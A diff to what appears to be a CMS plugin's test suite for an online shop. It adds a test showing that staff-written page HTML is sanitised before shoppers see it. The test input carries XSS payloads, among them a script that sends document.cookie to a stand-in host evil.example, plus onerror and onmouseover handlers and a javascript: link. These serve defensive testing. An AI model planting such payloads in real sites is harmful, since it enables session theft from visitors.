@@ -62,6 +62,15 @@ const UPSERT_BLOCK = gql`
         }
     }
 `;
+const UPSERT_PAGE = gql`
+    mutation UpsertPage($input: UpsertCmsPageInput!) {
+        upsertCmsPage(input: $input) {
+            id
+            slug
+            body
+        }
+    }
+`;
 const CREATE_ENTRY = gql`
     mutation Create($input: MenuEntryInput!) {
         createMenuEntry(input: $input) {
@@ -222,6 +231,40 @@ describe('CMS plugin', () => {
         expect(cmsPage.body).toContain('30 giorni');
         const missing = await shopClient.query(PAGE, { slug: 'pagina-inesistente' });
         expect(missing.cmsPage).toBeNull();
+    });
+
+    it('stores staff HTML of a page sanitised: no script, handler or javascript: link; shop markup kept', async () => {
+        const legitimate =
+            '<h2>Come restituire un prodotto</h2><p>Hai <strong>30 giorni</strong> per il <em>reso</em>.</p>' +
+            '<ul><li>Compila il <a href="/it/contact-us">modulo</a></li><li>Spedisci il pacco</li></ul>' +
+            '<table><tbody><tr><th>Costo</th><td>Gratuito</td></tr></tbody></table>' +
+            '<p><img src="/assets/source/ab/reso.jpg" alt="Pacco" /></p>';
+        const attack =
+            '<script>document.location="https://evil.example/?c="+document.cookie</script>' +
+            '<img src="/assets/x.png" onerror="alert(1)" alt="x" />' +
+            '<p><a href="javascript:alert(1)">Clicca</a> <a href="https://www.garanzia.example" target="_blank">Garanzia</a></p>' +
+            '<iframe src="https://evil.example"></iframe><p style="position:fixed" onmouseover="alert(2)">Fine</p>';
+        const { upsertCmsPage } = await adminClient.query(UPSERT_PAGE, {
+            input: { slug: 'reso-facile', locale: 'it', title: 'Reso facile', body: legitimate + attack },
+        });
+        const expected =
+            legitimate +
+            '<img src="/assets/x.png" alt="x" />' +
+            '<p><a>Clicca</a> <a href="https://www.garanzia.example" target="_blank" rel="noopener noreferrer">Garanzia</a></p>' +
+            '<p>Fine</p>';
+        expect(upsertCmsPage.body).toBe(expected);
+        // What shoppers get is what was stored.
+        const { cmsPage } = await shopClient.query(PAGE, { slug: 'reso-facile' });
+        expect(cmsPage.body).toBe(expected);
+
+        // Nothing but unsafe markup: refused rather than saved empty, and the stored page is unchanged.
+        await expect(
+            adminClient.query(UPSERT_PAGE, {
+                input: { slug: 'reso-facile', locale: 'it', title: 'Reso facile', body: '<script>alert(1)</script>' },
+            }),
+        ).rejects.toThrow('Body has no content left once unsafe HTML is removed');
+        const { cmsPage: after } = await shopClient.query(PAGE, { slug: 'reso-facile' });
+        expect(after.body).toBe(expected);
     });
 
     it('builds the main menu from the category tree, three levels deep, without the services category', async () => {
